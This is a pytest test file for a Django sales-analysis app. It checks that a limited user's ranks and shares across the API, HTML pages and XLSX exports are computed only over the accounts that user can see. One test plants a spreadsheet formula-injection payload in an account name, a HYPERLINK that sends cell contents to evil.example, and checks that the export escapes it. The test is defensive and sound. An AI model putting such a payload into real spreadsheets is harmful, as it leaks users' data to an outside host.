"""A user who does not see every account gets ranks and shares over the accounts they see: no figure
lets them work out the company total or a hidden account's value."""

from __future__ import annotations

import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from accounts.models import Account
from analysis import scopes
from analysis.models import AccountSegment
from analysis.services import run_create, run_execute
from sales.services import sales_lines_bulk_import

pytestmark = pytest.mark.django_db
AMOUNTS = {"A1": 5000, "A2": 3000, "A3": 2000, "A4": 1000, "A5": 600, "A6": 400}
MINE = ("A2", "A4", "A6")  # with hidden accounts between them


@pytest.fixture
def run(admin_user, kam, outsider, department):
    lines = [
        {"line_external_id": f"{account}-{m}", "account_external_id": account,
         "date": f"2025-{m:02d}-05", "amount": f"{amount / 4:.2f}"}
        for account, amount in AMOUNTS.items() for m in (3, 6, 9, 12)
    ]  # fmt: skip
    assert sales_lines_bulk_import(by=admin_user, lines=lines).status == "done"
    Account.objects.update(department=department, owner=outsider)
    Account.objects.filter(external_id__in=MINE).update(owner=kam)
    return run_execute(run=run_create(by=None, as_of=dt.date(2025, 12, 31), trigger="command"))


def _api_rows(user, **params):
    client = APIClient()
    client.force_authenticate(user)
    response = client.get("/api/v1/segments/", {"run": "latest", **params})
    assert response.status_code == 200
    return response.json()["results"]


def test_a_kams_api_figures_are_over_their_own_accounts(run, kam):
    rows = _api_rows(kam)
    mine = Decimal(3000 + 1000 + 400)
    assert [r["account_external_id"] for r in rows] == list(MINE)
    assert [r["rank"] for r in rows] == [1, 2, 3]
    for row in rows:
        assert Decimal(row["value"]) / Decimal(str(row["share"])) == pytest.approx(mine)  # never 12,000
    assert [round(r["cum_share"], 6) for r in rows] == [round(3000 / 4400, 6), round(4000 / 4400, 6), 1.0]
    assert [r["abc_class"] for r in rows] == ["A", "B", "C"]  # the company's classes


def test_a_filtered_page_keeps_the_figures_of_everything_the_kam_sees(run, kam):
    (row,) = _api_rows(kam, abc_class="B")
    assert (row["rank"], row["cum_share"]) == (2, pytest.approx(4000 / 4400))
    detail = APIClient()
    detail.force_authenticate(kam)
    one = detail.get(f"/api/v1/segments/{row['account']}/", {"run": "latest"}).json()
    assert (one["rank"], one["share"]) == (2, pytest.approx(1000 / 4400))


def test_an_admin_gets_the_company_figures(run, admin_user):
    rows = _api_rows(admin_user)
    assert [r["rank"] for r in rows] == [1, 2, 3, 4, 5, 6]
    assert rows[0]["share"] == pytest.approx(5000 / 12000)


def test_the_segment_list_and_its_xlsx_show_the_kams_figures(run, kam, client):
    client.force_login(kam)
    page = client.get("/analysis/segments/", {"run": run.pk}).content.decode()
    assert "68.18 %" in page  # 3,000 of the 4,400 the KAM sees
    assert "25.00 %" not in page  # 3,000 of the company's 12,000
    response = client.get("/analysis/segments/", {"run": run.pk, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert [r["Rank"] for r in rows] == [1, 2, 3]
    assert [r["Share of value"] for r in rows] == pytest.approx([3000 / 4400, 1000 / 4400, 400 / 4400])
    assert rows[-1]["Cumulative share"] == pytest.approx(1.0)


def test_the_account_tab_shows_the_kams_rank_and_share(run, kam, client):
    client.force_login(kam)
    account = Account.objects.get(external_id="A4")
    page = client.get(reverse("analysis:account-tab", args=[account.pk])).content.decode()
    assert "Rank 2 in run" in page and "22.73 %" in page


def test_an_account_name_that_looks_like_a_formula_is_text_in_the_xlsx(run, kam, client):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    Account.objects.filter(external_id="A2").update(name=evil)
    client.force_login(kam)
    response = client.get("/analysis/segments/", {"run": run.pk, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names[0] == "'" + evil
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def _history_rows(client, account):
    """(as of, rank) of the tab's "Class over runs" table, newest first."""
    page = client.get(reverse("analysis:account-tab", args=[account.pk])).content.decode()
    table = page.split("Class over runs", 1)[1]
    return re.findall(r'<td class="text-nowrap">([^<]+)</td>.*?<td class="text-end">(\d+)</td>', table, re.S)


def test_the_tabs_class_history_ranks_the_account_among_the_kams_accounts_in_every_run(run, kam, client):
    earlier = run_execute(run=run_create(by=None, as_of=dt.date(2025, 9, 30), trigger="command"))
    client.force_login(kam)
    account = Account.objects.get(external_id="A4")
    # Company ranks 4 in both runs; among the KAM's A2, A4 and A6 it is second in both.
    assert [rank for _as_of, rank in _history_rows(client, account)] == ["2", "2"]
    assert _history_rows(client, account) == _history_rows(client, account)  # kept, then read: the same
    # Every run in one call, the first time (worked out) and again (read from what was kept): in each
    # run the KAM's A2, A4 and A6 hold 3,000, 1,000 and 400 parts of their 4,400.
    for _ in range(2):
        mine = AccountSegment.objects.filter(run__in=[run, earlier], account__owner=kam).select_related("run")
        figures = {
            (s.run_id, s.account.external_id): (s.rank, s.share, s.cum_share)
            for s in scopes.with_visible_figures_of_runs(user=kam, segments=list(mine))
        }
        for each in (run, earlier):
            assert figures[each.pk, "A2"] == (1, pytest.approx(3000 / 4400), pytest.approx(3000 / 4400))
            assert figures[each.pk, "A4"] == (2, pytest.approx(1000 / 4400), pytest.approx(4000 / 4400))
            assert figures[each.pk, "A6"] == (3, pytest.approx(400 / 4400), pytest.approx(1.0))


def test_the_tabs_class_history_follows_a_change_of_owner_at_once(run, kam, outsider, client):
    client.force_login(kam)
    account = Account.objects.get(external_id="A4")
    assert [rank for _as_of, rank in _history_rows(client, account)] == ["2"]
    bigger = Account.objects.get(external_id="A2")
    bigger.owner = outsider
    bigger.save()  # a new visibility generation: the kept ranks of the old one are not read
    assert [rank for _as_of, rank in _history_rows(client, account)] == ["1"]
